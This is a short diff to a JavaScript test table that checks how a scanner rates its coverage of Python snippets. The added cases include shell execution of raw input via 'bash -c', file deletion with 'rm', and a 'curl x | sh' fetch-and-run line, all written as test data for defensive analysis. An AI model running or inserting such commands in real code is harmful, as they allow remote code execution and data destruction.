@@ -216,7 +216,10 @@ it.each([
   ['import os; os.remove(input())', 'partial'],
   ['import os; getattr(os, input())("rm")', 'partial'],
   ['import subprocess; subprocess.run(input().split())', 'partial'],
-  ['import os; os.system("rm " + input())', 'opaque'],
+  ['import os; os.system("rm " + input())', 'partial'],
+  ['import os; os.system("bash -c " + input())', 'opaque'],
+  ['import subprocess; subprocess.run(["bash", "-c", input()])', 'partial'],
+  ['import os; os.system("curl x | sh")', 'opaque'],
 ])('%s is not known, and said so', (code, coverage) => {
   expect(python(code).scan.coverage).toBe(coverage);
 });
